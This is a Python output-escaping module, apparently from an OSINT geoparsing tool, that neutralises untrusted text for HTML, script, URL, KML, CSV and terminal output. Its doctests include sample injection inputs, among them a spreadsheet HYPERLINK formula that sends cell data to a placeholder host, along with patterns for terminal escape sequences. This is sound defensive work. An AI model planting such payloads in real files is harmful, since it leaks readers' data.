"""Escaping untrusted text for every place it goes: the one escaping path.

Article text, sidecar fields, evidence files and online answers are hostile
input. Whatever reaches an output goes through one of these functions, chosen
by where it lands:

- :func:`html_text` (alias :func:`esc`): HTML text and quoted attributes.
  Braces are escaped too (``{`` becomes ``&#123;``), because folium and branca
  compile each element's rendered output as a Jinja2 template a second time:
  text that still held ``{{`` or ``{%`` would run as template code.
- :func:`js_string`: a JavaScript string literal safe inside ``<script>`` (and,
  for the same reason, free of braces).
- :func:`safe_url`: only ``http(s)`` links, never ``javascript:``.
- :func:`xml_text`: characters XML 1.0 forbids removed (KML).
- :func:`html_body`: HTML text where no template reads it again and no attribute holds it
  (a KML description): only ``&``, ``<`` and ``>`` escaped, so that a reader that shows the
  description as plain text (QGIS) meets no ``&#x27;`` for an apostrophe.
- :func:`csv_cell`: spreadsheet formulas neutralised (``=``, ``+``, ``-``,
  ``@``, tab and carriage return at the start of a cell get a leading ``'``),
  as OWASP recommends against CSV injection.
- :func:`terminal`: control characters and escape sequences removed before
  text is printed on a terminal; :class:`TerminalStream` does it for a whole
  stream (the command line's standard error, and standard output on a terminal).
"""

from __future__ import annotations

import html
import json
import math
import re
from typing import Any

_BRACES = str.maketrans({"{": "&#123;", "}": "&#125;"})
_JS_ESCAPES = str.maketrans({
    "<": "\\u003c", ">": "\\u003e", "&": "\\u0026", "{": "\\u007b", "}": "\\u007d",
    "\u2028": "\\u2028", "\u2029": "\\u2029",
})
_URL_RE = re.compile(r"https?://[^\s\"'<>{}]+$", re.IGNORECASE)
# XML 1.0 allows tab, newline, carriage return and everything from U+0020 up, except
# the surrogates and U+FFFE/U+FFFF.
_XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
# ANSI/VT escape sequences (CSI, OSC and two-character ones), then any remaining C0/C1 controls.
_ANSI = re.compile(r"\x1b(?:\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(?:\x07|\x1b\\)?|[@-Z\\-_])"
                   r"|\x9b[0-?]*[ -/]*[@-~]")
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_SURROGATE = re.compile("[\ud800-\udfff]")
#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _blank(value: Any) -> bool:
    return value is None or (isinstance(value, float) and math.isnan(value))


def html_text(value: Any) -> str:
    """Escape any value for HTML text or a quoted attribute (``None`` and NaN give '').

    Examples
    --------
    >>> html_text('<b>{{ 7*7 }}</b>')
    '&lt;b&gt;&#123;&#123; 7*7 &#125;&#125;&lt;/b&gt;'
    """
    if _blank(value):
        return ""
    return html.escape(str(value), quote=True).translate(_BRACES)


#: The short name the maps and notebooks use.
esc = html_text


def html_body(value: Any) -> str:
    """Escape any value for HTML text content read by no template (``None`` and NaN give '').

    Quotes and braces are left as they are: they are markup only inside an attribute or a
    template, and a KML description is neither. Everything a browser or Google Earth would
    read as a tag or an entity is escaped.

    Examples
    --------
    >>> print(html_body("Kim's <b>army</b> & {x}"))
    Kim's &lt;b&gt;army&lt;/b&gt; &amp; {x}
    """
    if _blank(value):
        return ""
    return html.escape(str(value), quote=False)


def js_string(text: str) -> str:
    """A JavaScript string literal of ``text``, safe inside an HTML ``<script>``.

    Examples
    --------
    >>> js_string("</script>{{x}}")
    '"\\\\u003c/script\\\\u003e\\\\u007b\\\\u007bx\\\\u007d\\\\u007d"'
    """
    return json.dumps(str(text), ensure_ascii=False).translate(_JS_ESCAPES)


def safe_url(url: Any) -> str | None:
    """Return ``url`` when it is an http(s) URL, else None (no ``javascript:`` links)."""
    if not isinstance(url, str):
        return None
    url = url.strip()
    return url if _URL_RE.match(url) else None


def xml_text(value: Any) -> str:
    """``value`` as text with the characters XML 1.0 forbids removed (escaping is the writer's job)."""
    if _blank(value):
        return ""
    return _XML_FORBIDDEN.sub("", str(value))


def csv_cell(value: Any) -> Any:
    """Neutralise a spreadsheet formula: a text cell starting with ``= + - @``, tab or CR gets a ``'``.

    Numbers are returned as they are, so negative coordinates stay numbers.

    Examples
    --------
    >>> csv_cell('=HYPERLINK("http://x/?"&A1)'), csv_cell(-12.5), csv_cell("Seoul")
    ('\\'=HYPERLINK("http://x/?"&A1)', -12.5, 'Seoul')
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def terminal(value: Any) -> str:
    """Text safe to print on a terminal: escape sequences and control characters removed.

    Newlines and tabs are kept.
    """
    if _blank(value):
        return ""
    return _CONTROL.sub("", _ANSI.sub("", str(value)))


_CONTROL_KEEP_LINES = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]|\r(?!\n)")


def stream_text(value: str) -> str:
    """A whole text output (CSV, JSON lines) cleaned for a pipe or a terminal: escape sequences
    and control characters removed, line ends (``\\n``, ``\\r\\n``) and tabs kept.

    What ``osint geoparse ... | head`` shows can then never drive the terminal; a file
    written with ``-o`` keeps the text exactly.
    """
    return _CONTROL_KEEP_LINES.sub("", _ANSI.sub("", value))


class TerminalStream:
    """A text stream whose every write goes through :func:`terminal`.

    Carriage returns are kept between the cleaned pieces, so progress bars still redraw
    in place; everything else (flush, isatty, encoding, ...) is the wrapped stream's.
    """

    def __init__(self, stream: Any):
        self._stream = stream

    def write(self, text: str) -> int:
        """Write ``text`` without its escape sequences and control characters."""
        text = str(text)
        self._stream.write("\r".join(terminal(part) for part in text.split("\r")))
        return len(text)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._stream, name)


def no_surrogates(text: str) -> str:
    """Replace lone surrogates (which UTF-8 cannot encode) with U+FFFD, keeping every offset."""
    return _SURROGATE.sub("\ufffd", text) if _SURROGATE.search(text) else text
